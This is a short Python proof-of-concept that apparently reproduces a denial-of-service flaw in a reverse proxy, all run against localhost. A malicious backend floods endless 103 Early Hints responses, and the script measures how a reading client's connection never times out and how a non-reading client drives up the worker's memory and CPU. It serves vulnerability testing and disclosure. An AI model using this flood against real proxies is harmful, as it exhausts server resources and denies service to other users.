"""A backend that answers with an endless stream of 103 Early Hints heads.
(a) client reads: the exchange never ends (each read resets the route timeout; no count limit).
(b) client does not read: every 103 is queued in the worker for the client: memory grows.
Apache: AP_MAX_INTERIM_RESPONSES (10) -> 502 "Too many interim responses"."""
import socket
import sys
import threading
import time

import psutil

from h import RawBackend, proxy, rss_kib

HINT = b"HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload; as=style" + b"x" * 900 + b"\r\n\r\n"
stop = threading.Event()


def flood(conn):
    conn.read_head()
    try:
        while not stop.is_set():
            conn.sock.sendall(HINT * 64)
    except OSError:
        pass


backend = RawBackend(flood)
ok = RawBackend()
p = proxy([{"path": "/ok/", "to": ok.url + "/"}, {"path": "/", "to": backend.url + "/"}], timeouts={"proxy": 2})
wpid = p.worker_pids()[0]
print("worker RSS before:", rss_kib(wpid), "KiB")

# (a) a reading client, route timeout 2 s
s = socket.create_connection(("127.0.0.1", p.port))
s.sendall(b"GET /a HTTP/1.1\r\nHost: t\r\n\r\n")
got, t0 = 0, time.time()
s.settimeout(1)
while time.time() - t0 < 5:
    try:
        d = s.recv(1 << 20)
    except socket.timeout:
        continue
    if not d:
        break
    got += len(d)
print(f"(a) reading client: {got // len(HINT)} interim heads in 5 s (timeout 2 s), still open: {bool(d)}")
s.close()

# (b) a client that never reads
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.connect(("127.0.0.1", p.port))
s.sendall(b"GET /b HTTP/1.1\r\nHost: t\r\n\r\n")
cpu0 = psutil.Process(wpid).cpu_times()
for i in range(int(sys.argv[1]) if len(sys.argv) > 1 else 10):
    time.sleep(1)
    t = time.time()
    v = socket.create_connection(("127.0.0.1", p.port), timeout=30)
    v.sendall(b"GET /ok/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
    answer = v.recv(100)
    v.close()
    c = psutil.Process(wpid).cpu_times()
    print(f"(b) +{i + 1}s worker RSS {rss_kib(wpid)} KiB, cpu {c.user + c.system - cpu0.user - cpu0.system:.1f}s, "
          f"victim {answer[:12]!r} in {(time.time() - t) * 1000:.0f} ms")
stop.set()
s.close()
p.stop()
backend.close()
